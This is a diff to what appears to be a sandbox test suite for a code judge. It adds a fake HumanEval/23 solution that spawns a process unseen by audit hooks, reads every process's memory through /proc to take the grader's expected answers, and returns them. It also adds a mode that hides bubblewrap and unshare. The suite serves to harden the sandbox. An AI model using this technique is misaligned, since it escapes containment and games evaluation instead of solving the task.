@@ -43,6 +43,49 @@ def strlen(string):
     return -1
 """
 
+# The same answer from a process that no audit hook watches: `_posixsubprocess` made without an
+# import event, its fork_exec starting the interpreter on a scan of every process's memory (as a
+# user without `unshare`, the judge's own process, same uid and holding the test, is there).
+STRLEN_SCAN = r"""import os, re
+pat = re.compile(rb"candidate\('([a-z]*)'\) == (\d+)")
+found = {}
+for pid in os.listdir('/proc'):
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        with open(f'/proc/{pid}/maps') as m, open(f'/proc/{pid}/mem', 'rb') as mem:
+            for line in m:
+                a, b = (int(v, 16) for v in line.split()[0].split('-'))
+                try:
+                    mem.seek(a)
+                    for k, v in pat.findall(mem.read(min(b - a, 1 << 26))):
+                        found[k.decode()] = int(v)
+                except (OSError, OverflowError, ValueError, MemoryError):
+                    pass
+    except OSError:
+        pass
+open('answers', 'w').write(repr(found))
+"""
+STRLEN_FROM_OUTSIDE = f"import os, sys, _imp, importlib.machinery\nSCAN = {STRLEN_SCAN!r}\n" + r"""
+ANSWERS = None
+def strlen(string):
+    global ANSWERS
+    if ANSWERS is None:
+        spec = importlib.machinery.BuiltinImporter.find_spec('_posixsubprocess') or \
+            importlib.machinery.PathFinder.find_spec('_posixsubprocess')
+        ps = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)
+        args = [sys.executable.encode(), b'-I', b'-c', SCAN.encode()]
+        r, w = os.pipe()
+        common = (args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True)
+        try:
+            pid = ps.fork_exec(*common, -1, None, None, None, -1, None, False)
+        except TypeError:
+            pid = ps.fork_exec(*common, None, None, None, -1, None)
+        os.waitpid(pid, 0)
+        ANSWERS = eval(open('answers').read())
+    return ANSWERS.get(string, -1)
+"""
+
 # Below the fallback's audit hook: with raw memory access (`memory()` -> peek, poke; the caller
 # prepends where it comes from) a program gives the guard's helpers, reached through the frame of a
 # PermissionError the guard raised, code that lets everything through, then writes TARGET.
@@ -167,6 +210,8 @@ def cases(d: str, port: int, unix_path: str, abstract: str, token: str) -> dict[
             "test": "def check(c):\n    assert c(helper(1)) == 11\n", "entry_point": "f"},
         "test from the harness's memory (HumanEval/23)": {
             "program": STRLEN_FROM_MEMORY, "test": STRLEN_TEST, "entry_point": "strlen"},
+        "test from the judge's memory, outside the hook (HumanEval/23)": {
+            "program": STRLEN_FROM_OUTSIDE, "test": STRLEN_TEST, "entry_point": "strlen"},
         # the checker's secrets by introspection: its frames, its objects (gc), the test's constants
         "the checker's frames and objects": exits(
             "import gc, os, sys\ndef f(x):\n    found = set()\n    fr = sys._getframe()\n"
@@ -298,6 +343,11 @@ if __name__ == "__main__":
     import warnings
     warnings.simplefilter("ignore")
     repo, mode, d, port, unix_path, abstract, token = sys.argv[1:8]
+    if mode == "fallback-bare":     # as if neither bubblewrap nor unshare were installed
+        import shutil
+        which = shutil.which
+        shutil.which = lambda name: None if name in ("unshare", "bwrap") else which(name)
+        mode = "fallback"
     sb = load_sandbox(repo)
     jobs = cases(d, int(port), unix_path, abstract, token)
     cfg = sb.SandboxConfig(mode=mode, timeout=4.0, cpu_seconds=3, memory_bytes=512 << 20,
